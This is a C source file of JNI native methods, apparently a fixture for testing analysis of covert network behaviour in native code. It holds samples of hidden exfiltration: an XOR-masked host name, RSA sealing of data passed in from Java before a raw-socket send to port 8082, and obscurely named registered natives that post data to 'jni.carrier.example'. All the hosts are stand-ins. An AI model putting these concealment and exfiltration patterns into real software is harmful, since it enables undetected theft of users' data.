// SPDX-License-Identifier: GPL-3.0-or-later
// Native methods as Java calls them: a host that is decoded here and used there, a key that stands here and is used there, a
// text that Java gives and that is sealed and sent here, and a method of Java that is called from here.
#include "shapes.h"

typedef void *Object;
typedef const struct Functions *Environment;
typedef union {
    int i;
    long long j;
    Object l;
} Argument;
// JNI's function table as far as it is called here (JNI specification, chapter 4).
struct Functions {
    void *reserved[4];
    void *version, *define;
    Object (*findClass)(Environment *, const char *); // 6
    void *to21[14];
    Object (*newGlobal)(Environment *, Object); // 21
    void *to28[6];
    Object (*newObject)(Environment *, Object, Object, ...); // 28
    void *to31[2];
    Object (*classOf)(Environment *, Object); // 31
    void *instance;
    Object (*methodId)(Environment *, Object, const char *, const char *); // 33
    Object (*callObject)(Environment *, Object, Object, ...); // 34
    void *to61[26];
    void (*callVoid)(Environment *, Object, Object, ...); // 61
    void *to113[51];
    Object (*staticMethodId)(Environment *, Object, const char *, const char *); // 113
    Object (*callStaticObject)(Environment *, Object, Object, ...); // 114
    Object (*callStaticObjectV)(Environment *, Object, Object, __builtin_va_list);
    Object (*callStaticObjectA)(Environment *, Object, Object, const Argument *);
    void *to144[27];
    Object (*staticFieldId)(Environment *, Object, const char *, const char *); // 144
    Object (*staticObject)(Environment *, Object, Object); // 145
    void *to167[21];
    Object (*newText)(Environment *, const char *); // 167
    int (*textLength)(Environment *, Object);
    const char *(*text)(Environment *, Object, void *); // 169
    void (*releaseText)(Environment *, Object, const char *);
    int (*arrayLength)(Environment *, Object); // 171
    void *to176[4];
    Object (*newBytes)(Environment *, int); // 176
    void *to184[7];
    signed char *(*elements)(Environment *, Object, void *); // 184
    void *to192[7];
    void (*releaseElements)(Environment *, Object, signed char *, int); // 192
    void *to200[7];
    void (*region)(Environment *, Object, int, int, void *); // 200
    void *to208[7];
    void (*setRegion)(Environment *, Object, int, int, const void *); // 208
    void *to215[6];
    int (*registerNatives)(Environment *, Object, const void *, int); // 215
};
struct Machine {
    void *reserved[6];
    int (*environment)(const struct Machine **, Environment **, int);
};
struct Registered {
    const char *name, *type;
    void *function;
};
int dial(const char *host, unsigned short port, int handle);

static const u8 kMasked[] = {0x32, 0x33, 0x3e, 0x3e, 0x3f, 0x34, 0x74, 0x39, 0x3b, 0x28, 0x28, 0x33, 0x3f, 0x28, 0x74, 0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f};
static Object kept;

// "hidden.carrier.example" under the mask 0x5a
Object Java_org_example_carrier_Carrier_decodeHost(Environment *env, Object self)
{
    char host[sizeof kMasked + 1];
    for (unsigned i = 0; i < sizeof kMasked; ++i)
        host[i] = (char)(kMasked[i] ^ 0x5a);
    host[sizeof kMasked] = 0;
    return (*env)->newText(env, host);
}

Object Java_org_example_carrier_Carrier_key(Environment *env, Object self)
{
    // SubjectPublicKeyInfo around the bare key (RFC 5280, section 4.1.2.7)
    static const u8 head[] = {0x30, 0x82, 0x01, 0x22, 0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00, 0x03, 0x82, 0x01, 0x0f, 0x00};
    Object out = (*env)->newBytes(env, sizeof head + sizeof kDer);
    (*env)->setRegion(env, out, 0, sizeof head, head);
    (*env)->setRegion(env, out, sizeof head, sizeof kDer, kDer);
    return out;
}

// The parameter says which of two hosts.
Object Java_org_example_carrier_Carrier_pick(Environment *env, Object self, int number)
{
    return (*env)->newText(env, number == 7 ? "seven.carrier.example" : "other.carrier.example");
}

static void post(const u8 *bytes, size_t size, const char *host)
{
    struct address to;
    memset(&to, 0, sizeof to);
    to.family = 2;
    to.port = 0x921f; // 8082
    to.host = inet_addr(host);
    int handle = socket(2, 1, 0);
    connect(handle, &to, sizeof to);
    write(handle, bytes, size);
    close(handle);
}

int Java_org_example_carrier_Carrier_report(Environment *env, Object self, Object host, Object body)
{
    u8 out[256];
    const char *name = (*env)->text(env, host, 0);
    const int size = (*env)->arrayLength(env, body);
    signed char *bytes = (*env)->elements(env, body, 0);
    const u8 *at = kDer;
    Handle *key = d2i_RSAPublicKey(0, &at, sizeof kDer);
    const int sealed = RSA_public_encrypt(size, (const u8 *)bytes, out, key, 1);
    if (sealed > 0)
        post(out, 256, name);
    (*env)->releaseElements(env, body, bytes, 0);
    (*env)->releaseText(env, host, name);
    return sealed;
}

// The registered ones. The first fills an array that it is handed; the second calls a static method of Java.
static void fill(Environment *env, Object self, Object into)
{
    signed char *bytes = (*env)->elements(env, into, 0);
    memcpy(bytes, "filled.carrier.example", 22);
    (*env)->releaseElements(env, into, bytes, 0);
}

static Object fromJava(Environment *env, Object self, Object tail)
{
    Object type = (*env)->findClass(env, "org/example/carrier/Carrier");
    Object method = (*env)->staticMethodId(env, type, "prefix", "(Ljava/lang/String;)Ljava/lang/String;");
    return (*env)->callStaticObject(env, type, method, tail);
}

// As the wrappers of C++ do: the arguments in a list.
static Object listed(Environment *env, Object type, Object method, ...)
{
    __builtin_va_list list;
    __builtin_va_start(list, method);
    Object out = (*env)->callStaticObjectV(env, type, method, list);
    __builtin_va_end(list);
    return out;
}

static Object fromList(Environment *env, Object self)
{
    Object type = kept;
    Object method = (*env)->staticMethodId(env, type, "joined", "(ILjava/lang/String;Ljava/lang/String;)Ljava/lang/String;");
    return listed(env, type, method, 5, (*env)->newText(env, "list"), (*env)->newText(env, ".carrier.example"));
}

static Object fromField(Environment *env, Object self)
{
    Object type = (*env)->findClass(env, "org/example/carrier/Carrier");
    return (*env)->staticObject(env, type, (*env)->staticFieldId(env, type, "HOST", "Ljava/lang/String;"));
}

// A connection of Java's, made here, that takes what Java sealed.
static void connection(Environment *env, Object self, Object body)
{
    Object type = (*env)->findClass(env, "java/net/URL");
    Object url = (*env)->newObject(env, type, (*env)->methodId(env, type, "<init>", "(Ljava/lang/String;)V"), (*env)->newText(env, "https://jni.carrier.example/in"));
    Object made = (*env)->callObject(env, url, (*env)->methodId(env, type, "openConnection", "()Ljava/net/URLConnection;"));
    type = (*env)->classOf(env, made);
    Object out = (*env)->callObject(env, made, (*env)->methodId(env, type, "getOutputStream", "()Ljava/io/OutputStream;"));
    type = (*env)->findClass(env, "java/io/OutputStream");
    (*env)->callVoid(env, out, (*env)->methodId(env, type, "write", "([B)V"), body);
}

int JNI_OnLoad(const struct Machine **machine, void *reserved)
{
    Environment *env = 0;
    if ((*machine)->environment(machine, &env, 0x10006) != 0)
        return -1;
    Object type = (*env)->findClass(env, "org/example/carrier/Carrier");
    kept = (*env)->newGlobal(env, type);
    const struct Registered table[] = {{"a", "([B)V", (void *)fill}, {"b", "(Ljava/lang/String;)Ljava/lang/String;", (void *)fromJava},
        {"c", "()Ljava/lang/String;", (void *)fromList}, {"d", "()Ljava/lang/String;", (void *)fromField}, {"e", "([B)V", (void *)connection}};
    (*env)->registerNatives(env, type, table, 5);
    return 0x10006;
}
